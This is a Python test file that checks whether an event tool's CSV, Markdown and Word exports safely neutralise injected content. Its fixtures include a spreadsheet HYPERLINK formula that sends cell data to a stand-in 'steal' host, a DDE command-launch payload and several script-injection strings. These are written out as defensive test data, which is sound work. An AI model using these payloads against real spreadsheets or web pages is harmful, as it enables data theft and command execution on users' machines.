"""Exports that are safe to open: CSV in Excel/WPS, Markdown, Word (issue 11, part 5)."""

from __future__ import annotations

import csv
import io

import docx

from kexie_events.csv_export import csv_bytes

from conftest import edit

FORMULA = '=HYPERLINK("http://example.invalid/steal?"&A1,"click")'
TAG = '<img src=x onerror="alert(1)">'


def test_formula_cells_are_text_in_every_csv(make_event, run):
    folder = make_event("science-day", "en")
    for what in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"):
        result = run(
            "incident",
            "add",
            folder,
            "--type",
            "other",
            "--what",
            what,
            "--done",
            "sent home",
            "--at",
            "2027-09-24 10:00",
        )
        assert result.exit_code == 0, result.output
    assert run("report", folder, "--format", "csv").exit_code == 0

    cells = []
    for path in (folder / "report").glob("*.csv"):
        text = path.read_bytes().decode("utf-8-sig")
        cells += [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    typed = [
        c
        for c in cells
        if "HYPERLINK" in c or "calc" in c or "SUM(" in c or "+3" in c or "1+1" in c
    ]
    assert len(typed) == 5
    assert all(c.startswith("'") for c in typed), typed
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_numbers_stay_numbers_in_csv():
    data = csv_bytes(["count", "note"], [[-3, "-3 people"], [12, "="]]).decode("utf-8-sig")
    assert data.splitlines()[1:] == ["-3,'-3 people", "12,'="]


def test_markdown_report_carries_no_html_from_the_event_or_the_store(make_event, run):
    folder = make_event("science-day", "en")
    edit(folder, 'title = "', f'title = "{TAG.replace(chr(34), chr(39))} ')
    result = run(
        "incident",
        "add",
        folder,
        "--type",
        "other",
        "--what",
        "<script>alert(2)</script>",
        "--done",
        "<b>fixed</b>",
        "--at",
        "2027-09-24 10:00",
    )
    assert result.exit_code == 0, result.output
    run("report", "add-media", folder, "--outlet", "<i>Daily</i>", "--link", "javascript:alert(3)")
    assert run("report", folder, "--format", "md").exit_code == 0

    text = (folder / "report" / "report.md").read_text(encoding="utf-8")
    assert "&lt;img src=x" in text
    assert "&lt;script&gt;alert(2)" in text
    for raw in ("<img", "<script", "<b>", "<i>", "](javascript:", "(<javascript:"):
        assert raw not in text


def test_characters_xml_cannot_hold_do_not_break_the_word_files(make_event, run):
    folder = make_event("science-day", "zh")
    edit(folder, 'title = "', 'title = "\\u0007响铃\\u001b')
    result = run(
        "incident",
        "add",
        folder,
        "--type",
        "other",
        "--what",
        "走失\x01儿童已找到",
        "--done",
        "交还家长\x1f",
        "--at",
        "2027-09-24 10:00",
    )
    assert result.exit_code == 0, result.output

    assert run("kit", folder).exit_code == 0
    result = run("report", folder, "--format", "docx")
    assert result.exit_code == 0, result.output

    document = docx.Document(folder / "report" / "report.docx")
    text = "\n".join(p.text for p in document.paragraphs)
    text += "\n".join(c.text for t in document.tables for row in t.rows for c in row.cells)
    assert "走失儿童已找到" in text
    assert document.core_properties.title.startswith("响铃")
